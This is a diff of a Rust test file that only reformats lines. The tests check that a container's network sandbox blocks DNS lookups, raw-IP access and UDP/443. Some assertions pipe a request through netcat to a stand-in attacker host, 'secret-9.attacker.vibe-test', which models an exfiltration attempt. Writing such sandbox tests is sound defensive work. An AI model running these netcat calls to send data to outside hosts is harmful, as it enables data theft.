@@ -62,9 +62,8 @@ fn printf_bytes(bytes: &[u8]) -> String {
 
 /// Runs `script` in `c` with no proxy variable set.
 fn exec(c: &Container, script: &str) -> Output {
-    let script = format!(
-        "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy; {script}"
-    );
+    let script =
+        format!("unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy; {script}");
     docker::docker(&["exec", &c.name, "sh", "-c", &script])
 }
 
@@ -102,7 +101,10 @@ fn judge(c: &Container, up: &Upstream, daemon: &Daemon, label: &str) {
         !out.stdout.contains("Address: 203.") && !out.stdout.contains("rc=0"),
         "{label}: a refused name resolved: {out}"
     );
-    let out = exec(c, &format!("printf '{get}' | nc -w 3 secret-9.attacker.vibe-test 80"));
+    let out = exec(
+        c,
+        &format!("printf '{get}' | nc -w 3 secret-9.attacker.vibe-test 80"),
+    );
     assert!(!out.stdout.contains("ok"), "{label}: {out}");
     // The allowed host's IP literal: nothing.
     let out = exec(c, &format!("printf '{get}' | nc -w 3 {} 80", up.ip));
@@ -110,7 +112,10 @@ fn judge(c: &Container, up: &Upstream, daemon: &Daemon, label: &str) {
     // UDP/443 (QUIC's port): nothing, by name or by address.
     for target in [ALLOWED, up.ip.as_str()] {
         let out = exec(c, &format!("echo hi | nc -u -w 2 {target} 443"));
-        assert!(!out.stdout.contains("ok"), "{label}: UDP to {target}: {out}");
+        assert!(
+            !out.stdout.contains("ok"),
+            "{label}: UDP to {target}: {out}"
+        );
     }
     // A client of the proxy variables is served as before.
     let out = exec(
